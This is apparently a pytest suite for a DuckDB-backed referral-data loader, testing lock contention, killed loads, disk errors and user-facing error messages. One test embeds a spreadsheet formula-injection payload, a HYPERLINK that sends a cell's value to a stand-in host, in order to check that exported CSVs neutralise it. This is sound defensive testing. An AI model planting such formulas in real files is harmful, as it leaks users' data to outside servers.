"""Nothing lost, nothing silently wrong: the load layer under concurrent writers, kills, full disks and odd paths.

Every test asserts what is in the database or on disk afterwards; the
processes are real (`dscp load` run as a child process, a second Python
holding a DuckDB connection). Nothing here asserts a duration: waits poll for
a state, with a generous deadline that only guards against a hang.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import signal
import subprocess
import sys
import time
from datetime import date
from pathlib import Path

import duckdb
import pytest

from dscp_metrics.cli import main
from dscp_metrics.errors import DatabaseError
from dscp_metrics.load import load_folder
from dscp_metrics.load import store_write
from dscp_metrics.store import lock_path, open_store, read_load_id, store_lock

LOAD_DATE = date(2024, 7, 1)
HEADER = "referral_id,child_id,referral_date,source,factors\n"
DEADLINE_S = 120  # only a guard against a hang, never a measurement


def referrals(folder: Path, rows: int, prefix: str = "R", extra: str = "") -> Path:
    """A csc_referrals.csv of `rows` good rows (ids `<prefix>0000001`...)."""
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "csc_referrals.csv", "w", encoding="utf-8", newline="") as out:
        out.write(HEADER)
        step = 100_000
        for first in range(0, rows, step):
            out.write("".join(f"{prefix}{i:07d},C{i % 5000:05d},2024-04-03,Police,neglect\n"
                              for i in range(first, min(first + step, rows))))
        out.write(extra)
    return folder


def dscp(*args: str, cwd: Path) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "dscp_metrics.cli", *args], cwd=cwd,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def wait_for(condition, what: str) -> None:
    started = time.monotonic()
    while not condition():
        if time.monotonic() - started > DEADLINE_S:  # pragma: no cover - a hang
            pytest.fail(f"gave up waiting for {what}")
        time.sleep(0.005)


def snapshot(db: Path) -> dict:
    """Every table's rows (load_log without its time stamp), and the store's load id."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        names = [n for (n,) in con.execute("SELECT table_name FROM duckdb_tables() ORDER BY 1").fetchall()]
        out = {}
        for name in names:
            cols = "* EXCLUDE (loaded_at)" if name in ("load_log", "store_info") else "*"
            out[name] = con.execute(f"SELECT {cols} FROM {name} ORDER BY ALL").fetchall()
        return out
    finally:
        con.close()


def leftovers(db: Path) -> list[str]:
    return sorted(p.name for p in db.parent.iterdir() if p.name.startswith(db.name + ".tmp"))


def referral_ids(db: Path) -> set[str]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return {r for (r,) in con.execute("SELECT referral_id FROM csc_referrals").fetchall()}
    finally:
        con.close()


# ------------------------------------------------------------ one writer at a time
def test_two_concurrent_loads_serialise_and_the_last_one_wins(tmp_path):
    db = tmp_path / "dscp.duckdb"
    big = referrals(tmp_path / "big", 50_000, prefix="A")
    small = referrals(tmp_path / "small", 3, prefix="B", extra="B9,,2024-04-03,,\n")
    first = dscp("load", str(big), "--db", str(db), "--load-date", "2024-07-01", cwd=tmp_path)
    wait_for(lambda: lock_path(db).exists() and "dscp load" in lock_path(db).read_text(errors="replace"),
             "the first load to hold the lock")
    first.send_signal(signal.SIGSTOP)  # the first load is frozen mid-load, holding the lock
    try:
        second = dscp("load", str(small), "--db", str(db), "--load-date", "2024-07-01", cwd=tmp_path)
        waiting = second.stderr.readline()  # the second load says once that it waits, naming the holder
    finally:
        first.send_signal(signal.SIGCONT)
    out1, err1 = first.communicate(timeout=DEADLINE_S)
    out2, err2 = second.communicate(timeout=DEADLINE_S)
    assert (first.returncode, second.returncode) == (0, 0), (err1, err2)
    assert "waiting for" in waiting and f"dscp load {big}" in waiting and f"process {first.pid}" in waiting
    assert "waiting for" not in err2 and err1 == ""
    # Each report was true of what it loaded, and the store holds the last load's data.
    assert re.search(r"csc_referrals\.csv\s+read\s+50,000\s+loaded\s+50,000\s+rejected\s+0", out1)
    assert re.search(r"csc_referrals\.csv\s+read\s+4\s+loaded\s+3\s+rejected\s+1", out2)
    assert referral_ids(db) == {"B0000000", "B0000001", "B0000002"}
    state = snapshot(db)
    assert [row[4:7] for row in state["load_log"]] == [(4, 3, 1)]
    assert [(r[1], r[2], r[3]) for r in state["rejects"]] == [("csc_referrals.csv", 5, "child_id")]
    ids = [re.search(r"snapshot ([0-9a-f]{32})", out).group(1) for out in (out1, out2)]
    assert ids[0] != ids[1] and state["store_info"] == [(ids[1],)]
    assert leftovers(db) == []


def test_whatever_the_interleaving_the_store_is_the_last_completed_load(tmp_path):
    """Two loads started together, no freezing: either order is fine, a mix never is."""
    db = tmp_path / "dscp.duckdb"
    folders = [referrals(tmp_path / "a", 20_000, prefix="A"), referrals(tmp_path / "b", 30_000, prefix="B")]
    loads = [dscp("load", str(f), "--db", str(db), cwd=tmp_path) for f in folders]
    outs = [load.communicate(timeout=DEADLINE_S)[0] for load in loads]
    assert [load.returncode for load in loads] == [0, 0]
    ids = [re.search(r"snapshot ([0-9a-f]{32})", out).group(1) for out in outs]
    state = snapshot(db)
    last = ids.index(state["store_info"][0][0])  # the store names the load that wrote it ...
    assert len(referral_ids(db)) == (20_000, 30_000)[last]  # ... and holds exactly that load's rows
    assert {r[:1] for r in referral_ids(db)} == {"AB"[last]}
    assert leftovers(db) == []


def test_a_load_that_cannot_get_the_lock_gives_up_naming_the_holder(tmp_path):
    db = tmp_path / "dscp.duckdb"
    assert main(["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)]) == 0
    before = db.read_bytes()
    with store_lock(db, exclusive=True, purpose="dscp build --period 2024-25-Q4"):
        run = subprocess.run(
            [sys.executable, "-m", "dscp_metrics.cli", "load", str(referrals(tmp_path / "q2", 5)),
             "--db", str(db), "--wait", "0.3"], cwd=tmp_path, capture_output=True, text=True, timeout=DEADLINE_S)
    assert run.returncode == 2
    errors = run.stderr.strip().splitlines()
    assert errors[-1].startswith("dscp load: error: the database") and "dscp build --period 2024-25-Q4" in errors[-1]
    assert f"process {os.getpid()}" in errors[-1] and "Traceback" not in run.stderr
    assert len([e for e in errors if "waiting for" in e]) == 1
    assert db.read_bytes() == before


def test_load_wait_defaults_to_the_store_default():
    from dscp_metrics.cli import build_parser
    from dscp_metrics.store import DEFAULT_WAIT_S

    args = build_parser().parse_args(["load", "somewhere"])
    assert args.wait == DEFAULT_WAIT_S


# ---------------------------------------------- a database open for writing elsewhere
def test_a_load_never_replaces_a_database_open_for_writing(tmp_path):
    db = tmp_path / "dscp.duckdb"
    load_folder(referrals(tmp_path / "q1", 2), db, LOAD_DATE)
    before = snapshot(db)
    holder = subprocess.Popen(
        [sys.executable, "-c", "import duckdb, sys; con = duckdb.connect(sys.argv[1]); "
         "print('ready', flush=True); sys.stdin.read()", str(db)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "ready"
        with pytest.raises(DatabaseError) as caught:
            load_folder(referrals(tmp_path / "q2", 5), db, LOAD_DATE)
        message = str(caught.value)
        assert f"open for writing by process {holder.pid}" in message and "\n" not in message
        assert leftovers(db) == []
    finally:
        holder.stdin.close()
        holder.wait(timeout=DEADLINE_S)
    assert snapshot(db) == before
    # Once the notebook has let go, the same load goes through.
    assert load_folder(referrals(tmp_path / "q2", 5), db, LOAD_DATE).ok
    assert len(referral_ids(db)) == 5


def test_a_reader_does_not_block_a_load_and_keeps_its_snapshot(tmp_path):
    db = tmp_path / "dscp.duckdb"
    load_folder(referrals(tmp_path / "q1", 2), db, LOAD_DATE)
    reader = open_store(db)
    try:
        old_id = read_load_id(reader)
        report = load_folder(referrals(tmp_path / "q2", 5), db, LOAD_DATE)
        assert reader.execute("SELECT count(*) FROM store.csc_referrals").fetchall() == [(2,)]
        assert read_load_id(reader) == old_id != report.load_id
    finally:
        reader.close()
    assert len(referral_ids(db)) == 5


# ------------------------------------------------------------ crash-safe leftovers
def test_a_killed_load_leaves_the_old_database_and_the_next_load_cleans_up(tmp_path):
    db = tmp_path / "dscp.duckdb"
    assert main(["load", str(referrals(tmp_path / "q1", 3, prefix="OLD")), "--db", str(db)]) == 0
    before = snapshot(db)
    big = referrals(tmp_path / "big", 600_000, prefix="N")
    load = dscp("load", str(big), "--db", str(db), cwd=tmp_path)
    wait_for(lambda: leftovers(db) or load.poll() is not None, "the load's temporary database")
    assert load.poll() is None, "the load finished before it could be killed"
    load.send_signal(signal.SIGKILL)
    load.wait(timeout=DEADLINE_S)
    assert leftovers(db)  # what a killed load leaves behind ...
    assert snapshot(db) == before  # ... never touches the live database
    assert main(["load", str(referrals(tmp_path / "q2", 4, prefix="NEW")), "--db", str(db)]) == 0
    assert leftovers(db) == []  # ... and the next load removes it
    assert referral_ids(db) == {f"NEW{i:07d}" for i in range(4)}


def test_a_terminated_load_removes_its_own_temporary_files(tmp_path):
    db = tmp_path / "dscp.duckdb"
    assert main(["load", str(referrals(tmp_path / "q1", 3)), "--db", str(db)]) == 0
    before = snapshot(db)
    load = dscp("load", str(referrals(tmp_path / "big", 600_000, prefix="N")), "--db", str(db), cwd=tmp_path)
    wait_for(lambda: leftovers(db) or load.poll() is not None, "the load's temporary database")
    assert load.poll() is None, "the load finished before it could be stopped"
    load.send_signal(signal.SIGTERM)
    _, err = load.communicate(timeout=DEADLINE_S)
    assert load.returncode == 130 and "interrupted" in err
    assert leftovers(db) == []
    assert snapshot(db) == before


def test_leftovers_of_a_killed_load_are_removed_under_the_lock(tmp_path):
    db = tmp_path / "dscp.duckdb"
    for name in ("dscp.duckdb.tmp-1-dead", "dscp.duckdb.tmp-1-dead.wal"):
        (tmp_path / name).write_bytes(b"half a database")
    (tmp_path / "dscp.duckdb.tmp-1-dead.tmp").mkdir()
    (tmp_path / "other.duckdb.tmp-1-dead").write_bytes(b"another store's: not ours to remove")
    assert load_folder(referrals(tmp_path / "q1", 2), db, LOAD_DATE).ok
    assert leftovers(db) == []
    assert (tmp_path / "other.duckdb.tmp-1-dead").exists()


# ----------------------------------------------------------- one-sentence errors
def one_sentence_error(capsys, argv: list[str]) -> str:
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err
    return err


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write to a read-only folder; see the simulated case")
def test_read_only_db_folder_real(tmp_path, capsys):
    db = tmp_path / "ro" / "dscp.duckdb"
    db.parent.mkdir()
    db.parent.chmod(0o555)
    try:
        err = one_sentence_error(capsys, ["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)])
        assert "cannot be written" in err
    finally:
        db.parent.chmod(0o755)


def test_read_only_db_folder(tmp_path, capsys, monkeypatch):
    db = tmp_path / "ro" / "dscp.duckdb"
    assert main(["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)]) == 0
    before = db.read_bytes()
    lock_path(db).unlink()
    import dscp_metrics.store.lock as lock_module

    real_open = os.open

    def read_only_open(path, flags, *args):
        if flags & (os.O_CREAT | os.O_WRONLY | os.O_RDWR) and Path(path).parent == db.parent:
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(path))
        return real_open(path, flags, *args)

    monkeypatch.setattr(lock_module.os, "open", read_only_open)
    err = one_sentence_error(capsys, ["load", str(referrals(tmp_path / "q2", 5)), "--db", str(db)])
    assert f"the folder {db.parent} cannot be written (Read-only file system)" in err
    assert db.read_bytes() == before and leftovers(db) == []


@pytest.mark.parametrize("where", ["copy", "duckdb"])
def test_full_disk(tmp_path, capsys, monkeypatch, where):
    db = tmp_path / "dscp.duckdb"
    assert main(["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)]) == 0
    before = db.read_bytes()
    if where == "copy":
        def no_space(*args, **kwargs):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        monkeypatch.setattr(store_write.shutil, "copyfile", no_space)
    else:
        from dscp_metrics.load import folder

        def no_space(*args, **kwargs):
            raise duckdb.IOException('IO Error: Could not write file "x": No space left on device')

        monkeypatch.setattr(folder, "replace_source", no_space)
    try:
        err = one_sentence_error(capsys, ["load", str(referrals(tmp_path / "q2", 5)), "--db", str(db)])
    except duckdb.IOException:  # pragma: no cover - only if the writer let it through
        pytest.fail("a DuckDB disk error reached the user as a traceback")
    assert "not enough disk space" in err and f"{db} is unchanged" in err
    assert db.read_bytes() == before and leftovers(db) == []


def test_db_path_that_is_a_folder(tmp_path, capsys):
    db = tmp_path / "dscp.duckdb"
    db.mkdir()
    err = one_sentence_error(capsys, ["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)])
    assert f"{db} is a folder, not a database file" in err
    assert db.is_dir() and list(db.iterdir()) == [] and leftovers(db) == []


def test_db_path_that_is_not_a_duckdb_file(tmp_path, capsys):
    db = tmp_path / "notes.duckdb"
    db.write_text("my notes, not a database\n", encoding="utf-8")
    err = one_sentence_error(capsys, ["load", str(referrals(tmp_path / "q1", 2)), "--db", str(db)])
    assert f"{db} is not a DuckDB database" in err
    assert db.read_text(encoding="utf-8") == "my notes, not a database\n" and leftovers(db) == []


# -------------------------------------------------------------- store snapshot id
def test_every_completed_load_writes_a_fresh_load_id(tmp_path):
    db = tmp_path / "dscp.duckdb"
    folder = referrals(tmp_path / "q1", 2)
    ids = []
    for _ in range(2):
        report = load_folder(folder, db, LOAD_DATE)
        con = open_store(db)
        try:
            ids.append(read_load_id(con))
            assert con.execute("SELECT count(*) FROM store.store_info").fetchall() == [(1,)]
        finally:
            con.close()
        assert ids[-1] == report.load_id and re.fullmatch(r"[0-9a-f]{32}", ids[-1])
        assert f"snapshot {report.load_id}" in report.format()
    assert ids[0] != ids[1]


def test_read_load_id_of_a_store_without_store_info(tmp_path):
    db = tmp_path / "old.duckdb"
    con = duckdb.connect(str(db))
    con.execute("CREATE TABLE rejects (source VARCHAR)")
    con.close()
    reader = open_store(db)
    try:
        assert read_load_id(reader) is None
    finally:
        reader.close()


# ------------------------------------------------------------- what the user sees
def test_rejects_csv_is_safe_to_open_in_a_spreadsheet(tmp_path):
    db = tmp_path / "dscp.duckdb"
    formula = '=HYPERLINK("http://x/"&A1)'
    folder = referrals(tmp_path / "q1", 1, extra=f'R9,C1,"{formula.replace(chr(34), chr(34) * 2)}",,\n')
    load_folder(folder, db, LOAD_DATE)
    out = tmp_path / "rejects.csv"
    assert main(["rejects", "--db", str(db), "--format", "csv", "--output", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows == [["file", "line", "column", "value", "reason"],
                    ["csc_referrals.csv", "3", "referral_date", "'" + formula, "not a valid date"]]


def test_the_report_names_every_file_it_ignores(tmp_path, capsys):
    folder = referrals(tmp_path / "q1", 2)
    (folder / "notes.txt").write_text("x", encoding="utf-8")
    (folder / "referrals_old.csv").write_text("a,b\n", encoding="utf-8")
    (folder / "archive").mkdir()
    assert main(["load", str(folder), "--db", str(tmp_path / "dscp.duckdb")]) == 0
    out = capsys.readouterr().out
    assert "ignored, not an extract of the specification: notes.txt, referrals_old.csv\n" in out


def test_a_folder_of_other_files_names_them(tmp_path, capsys):
    folder = tmp_path / "q1"
    folder.mkdir()
    (folder / "referrals_old.csv").write_text("a,b\n", encoding="utf-8")
    err = one_sentence_error(capsys, ["load", str(folder), "--db", str(tmp_path / "dscp.duckdb")])
    assert "holds none of the extracts (it holds referrals_old.csv)" in err


def test_earliest_date_option(tmp_path, capsys):
    folder = referrals(tmp_path / "q1", 1, extra="R9,C1,2004-04-03,,\n")
    db = tmp_path / "dscp.duckdb"
    assert main(["load", str(folder), "--db", str(db), "--earliest-date", "2010-01-01"]) == 0
    capsys.readouterr()
    con = duckdb.connect(str(db), read_only=True)
    try:
        assert con.execute("SELECT line, reason FROM rejects").fetchall() == [
            (3, "date too early (before 2010-01-01)")]
    finally:
        con.close()
    err = one_sentence_error(capsys, ["load", str(folder), "--db", str(db), "--earliest-date", "1st May"])
    assert "--earliest-date must be a date written YYYY-MM-DD" in err
